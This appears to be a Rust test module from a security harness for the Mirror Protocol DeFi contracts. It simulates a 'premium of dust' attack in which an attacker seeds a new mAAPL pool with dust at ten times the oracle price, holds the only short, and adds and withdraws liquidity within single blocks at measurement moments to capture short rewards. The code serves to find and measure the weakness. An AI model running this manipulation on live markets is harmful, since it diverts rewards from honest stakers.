//! A premium that is measured in a pool of dust, before there are other providers.

use cosmwasm_std::Uint128;
use mirror_testing::{percent, standard_profile, TestChain, World};
use terraswap::asset::Asset;
use terraswap::pair::{Cw20HookMsg, Pair};

use super::premium_pool;
use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, HOUR, MILLION, UNIT};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "premium of dust",
    story:
        "40,000 micro coins against 40 micro mAAPL made a new asset's market stand at ten times \
            the oracle's price: shorts had 0.8 of the rewards for an hour, and the only short took \
            8,011 MIR for 10 coins.",
    run,
};

/// The coins and the tokens of the pool: a price of 1,000 where 100 is right.
const DUST: [u128; 2] = [40_000, 40];
/// The collateral of the only short.
const SHORT: u128 = 10 * UNIT;
/// The seconds over which the price is averaged.
const WINDOW: u64 = 600;

fn run() -> anyhow::Result<Findings> {
    let mut ways = vec![];
    for wait in [WINDOW, HOUR, 26 * HOUR] {
        let (dust, now) = hour(true, wait)?;
        let (none, then) = hour(false, wait)?;
        let less = then.saturating_sub(now);
        ways.push(dust.against(&none).harms(premium_pool::worth(less)));
    }
    Ok(Findings {
        attempts: vec![Attempt::best(
            ways,
            "put 40,000 micro coins and 40 micro mAAPL into the new pool, was its only short, and \
             had the premium measured ten minutes, an hour or a day later, just before the first \
             provider came; against the same after a market at the right price",
        )?],
        exposures: vec![two_moments()?.exposes(
            "the pool is as deep as is asked for in two moments a day apart, and nobody looks \
             between them",
        )],
    })
}

/// The attacker makes the pool deep twice for a moment: when its depth is noted, and when the
/// premium is measured.
fn two_moments() -> anyhow::Result<Attempt> {
    let (none, then) = hour(false, WINDOW)?;
    let (dust, now) = pretends()?;
    let less = then.saturating_sub(now);
    Ok(dust.against(&none).harms(premium_pool::worth(less)))
}

/// The attempt with the two moments; also returns what alice has earned.
fn pretends() -> anyhow::Result<(Attempt, Uint128)> {
    let mut trial = prepared()?;
    puts_dust(&mut trial)?;
    brings_and_takes(&mut trial)?;
    trial.world.chain.pass(25 * HOUR);
    trial.world.feeds(&[("mAAPL", "100")]);
    brings_and_takes(&mut trial)?;
    provides(&mut trial.world)?;
    rewarded(trial)
}

/// Provides as much as the premium needs, has it measured, and withdraws, all in one block. 10,000
/// coins are needed at the oracle's price of 100; at a price p of the pool, 10,000 * sqrt(p / 100)
/// coins.
fn brings_and_takes(trial: &mut Trial) -> anyhow::Result<()> {
    let listed = trial.world.asset("mAAPL");
    let [coins, tokens] = reserves(&trial.world)?;
    let root_of_price = (coins * 10_000 / tokens).isqrt();
    let brought = 11_000 * UNIT * root_of_price / 1_000;
    let token = Asset::token(&listed.token, brought * tokens / coins);
    trial.does(Transaction::new().provides(&listed.pair, base(brought), token))?;
    fixtures::measures(&mut trial.world, "mAAPL")?;
    let shares = trial.world.token_balance(&listed.lp_token, &trial.attacker);
    let out = Cw20HookMsg::WithdrawLiquidity {
        min_assets: None,
        deadline: None,
    };
    let out = Transaction::new().hands(&listed.lp_token, shares.u128(), &listed.pair, &out);
    trial.does(out)?;
    Ok(())
}

/// The attacker's dust or the provider comes first; then an hour of rewards. Also returns what the
/// provider has earned.
fn hour(is_dust_first: bool, wait: u64) -> anyhow::Result<(Attempt, Uint128)> {
    let mut trial = prepared()?;
    if is_dust_first {
        puts_dust(&mut trial)?;
    } else {
        provides(&mut trial.world)?;
        shorts(&mut trial)?;
    }
    trial.world.chain.pass(wait);
    trial.world.feeds(&[("mAAPL", "100")]);
    fixtures::measures(&mut trial.world, "mAAPL")?;
    if is_dust_first {
        provides(&mut trial.world)?;
    }
    rewarded(trial)
}

fn prepared() -> anyhow::Result<Trial> {
    let profile = standard_profile(&TestChain::new());
    let mut world = World::deployed_as(profile);
    world.chain.pass(24 * HOUR);
    let mut world = world.with_asset("mAAPL", "100");
    let names = ["attacker", "alice"];
    for name in names {
        world.actor(name).opens(4 * MILLION, "mAAPL", percent(200));
    }
    premium_pool::trial(world)
}

/// The attacker provides the dust, opens the only short, and buys back what its sale has sold, so
/// that the price is high again.
fn puts_dust(trial: &mut Trial) -> anyhow::Result<()> {
    let listed = trial.world.asset("mAAPL");
    let token = Asset::token(&listed.token, DUST[1]);
    trial.does(Transaction::new().provides(&listed.pair, base(DUST[0]), token))?;
    shorts(trial)?;
    trial.does(Transaction::new().swaps(&listed.pair, base(5 * DUST[0])))?;
    Ok(())
}

fn shorts(trial: &mut Trial) -> anyhow::Result<()> {
    let (mint, token) = (trial.world.at.mint.clone(), trial.world.token("mAAPL"));
    let short = Transaction::new().shorts(&mint, base(SHORT), &token, percent(150));
    trial.does(short)?;
    Ok(())
}

/// Alice stakes, and the MIR of an hour is distributed and flows; also returns what she has earned.
fn rewarded(mut trial: Trial) -> anyhow::Result<(Attempt, Uint128)> {
    let weight = premium_pool::info(&trial.world).short_reward_weight;
    fixtures::bonds_all(&mut trial.world, "alice", "mAAPL")?;
    trial.world.chain.pass(HOUR);
    fixtures::distributes(&mut trial.world)?;
    trial.world.chain.pass(24 * HOUR);
    let earned = fixtures::earned(&trial.world, "alice")?;
    trial.notes("T-50", format!("the weight of shorts: {weight}"));
    Ok((trial.ends(String::new())?, earned))
}

/// The pool's base coins and tokens.
fn reserves(world: &World) -> anyhow::Result<[u128; 2]> {
    let pair = Pair(world.asset("mAAPL").pair);
    let pool = pair.pool(&world.chain.app.wrap())?;
    Ok([true, false].map(|is_base| {
        let mut sides = pool.assets.iter();
        let side = sides.find(|side| side.info.is_native_token() == is_base);
        side.map_or(0, |side| side.amount.u128())
    }))
}

/// Alice brings the pool to the right price, which costs almost nothing in a pool of dust, and
/// provides.
fn provides(world: &mut World) -> anyhow::Result<()> {
    let [coins, tokens] = reserves(world)?;
    let right = (coins * tokens / 100).isqrt();
    let sold = right.saturating_sub(tokens);
    if sold > 0 {
        world.alice().tries_to_sell("mAAPL", sold)?;
    }
    world
        .alice()
        .tries_to_provide("mAAPL", MILLION, MILLION / 100)?;
    Ok(())
}
